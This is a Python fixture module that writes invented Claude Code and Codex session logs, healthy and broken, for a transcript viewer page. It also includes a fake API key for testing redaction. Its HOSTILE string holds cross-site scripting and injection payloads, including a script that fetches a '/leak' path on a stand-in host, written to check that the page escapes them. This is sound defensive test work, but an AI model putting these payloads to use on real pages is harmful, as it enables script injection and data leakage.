"""Invented sessions for the page to show: healthy ones, and some of the ways they break."""

from __future__ import annotations

import json
import os
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import lockstitch

Json = dict[str, Any]

START = datetime(2026, 11, 16, 9, 12, tzinfo=UTC)
# Invented, and of the shape that the redaction knows.
SECRET = "sk-ant-api03-" + "Qm4vT9xK2pLz7RwN5cYbH8dJ3fGs6aEu" * 2 + "-invented"


class Chat:
    """A file of Claude Code under construction; what is written hangs on ``tip``."""

    def __init__(self, name: str, project: str, version: str = "2.1.300") -> None:
        self.session = str(uuid.uuid5(uuid.NAMESPACE_URL, f"{name} {project}"))
        self.project, self.version = project, version
        self.records: list[Json] = []
        self.tip: str | None = None
        self.now = START
        self.count = 0

    def add(self, kind: str, **fields: Any) -> Json:
        """Write a record of the chain."""
        self.now += timedelta(seconds=24)
        name = str(uuid.uuid5(uuid.NAMESPACE_URL, f"{self.session} {len(self.records)}"))
        record = {
            "parentUuid": self.tip,
            "isSidechain": False,
            "type": kind,
            **fields,
            "uuid": name,
            "timestamp": self.now.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "userType": "external",
            "cwd": self.project,
            "sessionId": self.session,
            "version": self.version,
            "gitBranch": "main",
        }
        self.records.append(record)
        self.tip = name
        return record

    def ask(self, text: str) -> Json:
        """A prompt of the user."""
        return self.add("user", message={"role": "user", "content": text})

    def say(self, text: str, *calls: tuple[str, Json]) -> list[str]:
        """A message of the model with calls of tools; gives their ids."""
        self.count += 1
        ids = [f"toolu_01{self.count:04d}{number:02d}{'x' * 14}" for number in range(len(calls))]
        blocks: list[Json] = [{"type": "text", "text": text}]
        blocks += [
            {"type": "tool_use", "id": name, "name": tool, "input": given}
            for name, (tool, given) in zip(ids, calls, strict=True)
        ]
        for block in blocks:
            message = {
                "id": f"msg_01{self.count:022d}",
                "type": "message",
                "role": "assistant",
                "model": "claude-sonnet-4-5",
                "content": [block],
                "stop_reason": "tool_use" if calls else "end_turn",
                "usage": {"input_tokens": 900, "output_tokens": 80},
            }
            self.add("assistant", message=message, requestId=f"req_{self.count}")
        return ids

    def give(self, call: str, text: str, *, failed: bool = False) -> Json:
        """The result of a call."""
        block: Json = {"tool_use_id": call, "type": "tool_result", "content": text}
        if failed:
            block["is_error"] = True
        return self.add("user", message={"role": "user", "content": [block]})

    def turn(self, ask: str, call: tuple[str, Json], result: str, done: str) -> None:
        """A whole healthy turn."""
        self.ask(ask)
        [name] = self.say("Let me look at that.", call)
        self.give(name, result)
        self.say(done)

    def write(self, home: Path, *, hours: float, tail: bytes = b"") -> Path:
        """Write the file where Claude Code keeps it, as old as is said."""
        folder = home / ".claude" / "projects" / self.project.replace("/", "-")
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{self.session}.jsonl"
        lines = [json.dumps(one, separators=(",", ":"), ensure_ascii=False) for one in self.records]
        path.write_bytes("".join(f"{line}\n" for line in lines).encode() + tail)
        aged(path, hours)
        return path


def aged(path: Path, hours: float) -> None:
    """Let a file be last changed so long ago."""
    then = datetime.now(UTC).timestamp() - hours * 3600
    os.utime(path, (then, then))


def bash(command: str) -> tuple[str, Json]:
    return "Bash", {"command": command, "description": command.split(" ", maxsplit=1)[0]}


def interrupted(home: Path) -> Path:
    """Three calls at once, of which the power cut left two without results."""
    chat = Chat("checkout", "/home/ada/shop")
    chat.turn(
        "The checkout test is flaky on CI. Find out why.",
        bash("pytest -q tests/test_checkout.py -p no:randomly"),
        "....F\n1 failed, 4 passed in 3.21s\nFAILED test_total_with_voucher - assert 1899 == 1900",
        "It fails when the voucher is applied before the tax is rounded.",
    )
    chat.ask("Fix it, and check the other rounding places as well.")
    first, _, _ = chat.say(
        "I will look at the three places that round money.",
        ("Read", {"file_path": "/home/ada/shop/src/money.py"}),
        bash("grep -rn 'round(' src/"),
        bash("pytest -q tests/test_checkout.py --count 20"),
    )
    chat.give(first, "def total(items):\n    return round(sum(item.price for item in items), 2)")
    chat.ask("are you still there?")
    chat.say("Yes. Two of my calls never came back; I will run them again.")
    return chat.write(home, hours=0.4)


def two_windows(home: Path) -> Path:
    """A conversation that went on in two windows at once: a resume drops one of them."""
    chat = Chat("migration", "/home/ada/billing")
    for number in range(3):
        chat.turn(
            f"Plan step {number + 1} of the invoice migration.",
            bash(f"ls migrations | tail -{number + 1}"),
            f"00{number + 1}_invoices.sql",
            f"Step {number + 1} is planned.",
        )
    fork = chat.tip
    main: list[Json] = []
    other: list[Json] = []
    for number in range(4):
        chat.tip = main[-1]["uuid"] if main else fork
        chat.ask(f"First window: apply step {number + 1}.")
        chat.say(f"Applied step {number + 1}; the schema is at version {number + 2}.")
        main.append(chat.records[-1])
        chat.tip = other[-1]["uuid"] if other else fork
        chat.ask(f"Second window: write the report for step {number + 1}.")
        chat.say(f"The report of step {number + 1} is written.")
        other.append(chat.records[-1])
    chat.tip = main[-1]["uuid"]
    chat.ask("First window: now run the checks.")
    chat.say("All checks pass.")
    return chat.write(home, hours=3)


def compacted(home: Path) -> Path:
    """A long conversation with a compaction in it; healthy."""
    chat = Chat("search", "/home/ada/search")
    for number in range(12):
        chat.turn(
            f"Improve ranking rule {number + 1}.",
            bash(f"python bench.py --rule {number + 1}"),
            f"ndcg@10 0.{61 + number}",
            f"Rule {number + 1} is better now.",
        )
    last = chat.tip
    chat.tip = None
    chat.add(
        "system",
        subtype="compact_boundary",
        content="Conversation compacted",
        isMeta=False,
        level="info",
        logicalParentUuid=last,
        compactMetadata={"trigger": "auto", "preTokens": 155000},
    )
    words = "This session is being continued from a previous conversation. Twelve ranking rules..."
    chat.add(
        "user",
        message={"role": "user", "content": words},
        isCompactSummary=True,
        isVisibleInTranscriptOnly=True,
    )
    chat.turn(
        "Go on with rule 13.", bash("python bench.py --rule 13"), "ndcg@10 0.74", "Rule 13 helps."
    )
    return chat.write(home, hours=26)


def torn(home: Path) -> Path:
    """A file whose last line broke off in the middle."""
    chat = Chat("docs", "/home/ada/docs")
    chat.turn(
        "Write the upgrade guide.", bash("git log --oneline | head"), "a1b2c3 Release 2.0", "Done."
    )
    return chat.write(home, hours=50, tail=b'{"parentUuid":"0b1c","isSidechain":fal')


def secret(home: Path) -> Path:
    """A healthy session in which a key was printed."""
    chat = Chat("deploy", "/home/ada/infra")
    chat.turn(
        "Why does the deployment fail?",
        bash("env | grep KEY"),
        f"ANTHROPIC_API_KEY={SECRET}\nREGION=eu-west-1",
        "The key is there, so the failure is somewhere else.",
    )
    return chat.write(home, hours=8)


HOSTILE = (
    "<script>window.broken = 1; fetch('http://192.0.2.1/leak')</script>"
    "<img src=x onerror=\"window.broken = 2\"><iframe src='http://192.0.2.1/'></iframe>"
    "<style>body{display:none}</style><a href='javascript:window.broken=3'>press me</a>"
    "</pre></div>{{7*7}} ${window.broken=4} \x1b[31mred\x1b[0m \u202egnirts\u202c \u200b \ufeff"
)


def hostile(home: Path) -> Path:
    """A session that is nothing but things a page must not obey."""
    chat = Chat("hostile", "/home/ada/<b>project</b>")
    chat.ask(HOSTILE)
    [call] = chat.say(HOSTILE, ("<script>window.broken=5</script>", {HOSTILE: HOSTILE}))
    chat.give(call, HOSTILE, failed=True)
    chat.say("![x](http://192.0.2.1/x.png) <svg onload='window.broken=6'></svg>")
    return chat.write(home, hours=30)


def long(home: Path, messages: int = 20_000) -> Path:
    """A session of very many messages, whose last call has no result."""
    chat = Chat("long", "/home/ada/long")
    for number in range(messages // 4):
        chat.turn(
            f"Question {number}", bash(f"echo {number}"), f"{number}\n" * 3, f"Answer {number}"
        )
    chat.ask("The very last question")
    chat.say("One more call.", bash("echo the very last call"))
    return chat.write(home, hours=1)


def codex(home: Path) -> Path:
    """A rollout of Codex in which a call has no output."""
    name = "0199aa10-7c1e-7d20-9a51-5be0c2f0a001"
    folder = home / ".codex" / "sessions" / "2026" / "11" / "15"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"rollout-2026-11-15T10-00-00-{name}.jsonl"
    call = {"type": "function_call", "name": "shell", "call_id": "call_1"}
    items: list[tuple[str, Json]] = [
        ("session_meta", {"id": name, "timestamp": "2026-11-15T10:00:00Z", "cwd": "/home/ada/api",
                          "originator": "codex_cli_rs", "cli_version": "0.130.0"}),
        ("response_item", {"type": "message", "role": "user",
                           "content": [{"type": "input_text", "text": "Add paging to the API."}]}),
        ("response_item", {**call, "arguments": '{"command":["rg","limit"]}'}),
        ("response_item", {"type": "function_call_output", "call_id": "call_1", "output": "ok"}),
        ("response_item", {**call, "call_id": "call_2", "arguments": '{"command":["make"]}'}),
        ("response_item", {"type": "message", "role": "user",
                           "content": [{"type": "input_text", "text": "Any news?"}]}),
        ("response_item", {"type": "message", "role": "assistant",
                           "content": [{"type": "output_text", "text": "Paging is in."}]}),
    ]  # fmt: skip
    lines = [
        json.dumps({"timestamp": f"2026-11-15T10:00:{n:02d}.000Z", "type": kind, "payload": value})
        for n, (kind, value) in enumerate(items)
    ]
    path.write_text("".join(f"{line}\n" for line in lines))
    aged(path, 40)
    return path


TOPICS = (
    ("Rename the user model", "/home/ada/shop"),
    ("Why is the build slow?", "/home/ada/shop"),
    ("Write release notes for 3.2", "/home/ada/docs"),
    ("Review the retry logic of the queue", "/home/ada/billing"),
    ("Port the dashboard to the new API", "/home/ada/search"),
    ("Add a health check to the gateway", "/home/ada/infra"),
    ("Explain the cache invalidation", "/home/ada/search"),
    ("Remove the feature flag for dark mode", "/home/ada/shop"),
    ("Upgrade PostgreSQL to 18 in staging", "/home/ada/infra"),
)


def healthy(home: Path) -> None:
    """Some sessions that nothing is wrong with."""
    for number, (topic, project) in enumerate(TOPICS):
        chat = Chat(topic, project)
        for step in range(number + 1):
            words = topic if not step else f"And the next step, number {step}?"
            chat.turn(words, bash("git status --short"), " M src/app.py", "That is done.")
        chat.write(home, hours=5 + number * 31)


def everything(home: Path) -> None:
    """All of them, but the hostile and the long one."""
    healthy(home)
    for scene in (interrupted, two_windows, compacted, torn, secret, codex):
        scene(home)


def replied(text: str, *calls: tuple[str, str, Json]) -> Json:
    """A reply of Anthropic's: text, and calls by id, name and arguments."""
    blocks: list[Json] = [{"type": "text", "text": text}]
    blocks += [{"type": "tool_use", "id": i, "name": n, "input": a} for i, n, a in calls]
    stop = "tool_use" if calls else "end_turn"
    return {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude-sonnet-4-5",
        "content": blocks,
        "stop_reason": stop,
        "usage": {"input_tokens": 10, "output_tokens": 10},
    }


def store(path: Path, sessions: int = 12) -> str:
    """A Lockstitch store, as :func:`filled` fills it; gives its address."""
    return filled(f"sqlite:///{path}", sessions)


def filled(url: str, sessions: int) -> str:
    """Fill a store: sessions with calls, one rewound, one compacted; gives its address."""
    with lockstitch.open(url) as opened:
        for number in range(sessions):
            with opened.session(f"ticket-{number + 40}") as session:
                for step in range(1 + number % 4):
                    _worked(session, f"Ticket {number + 40}, step {step + 1}: what is the state?")
        with opened.session("ticket-40") as session:
            session.checkpoint("before the refund")
            before = session.seq
            _worked(session, "Refund the customer.")
            _worked(session, "Refund it a second time.")
            session.rewind(before)
            _worked(session, "Ask the customer first.")
        with opened.session("ticket-43") as session:
            for step in range(6):
                _worked(session, f"Long step {step}. " + "Some words that take room. " * 40)
            session.compact(budget=1500)
    return url


def _worked(session: lockstitch.Session, ask: str) -> None:
    """A whole turn."""
    session.say(ask)
    call = f"toolu_{session.seq}"
    session.record(replied("I look it up.", (call, "lookup", {"query": ask[:20]})), "anthropic")
    session.run_tools({"lookup": lambda query: f"3 rows for {query}"})
    session.record(replied("It is settled."), "anthropic")
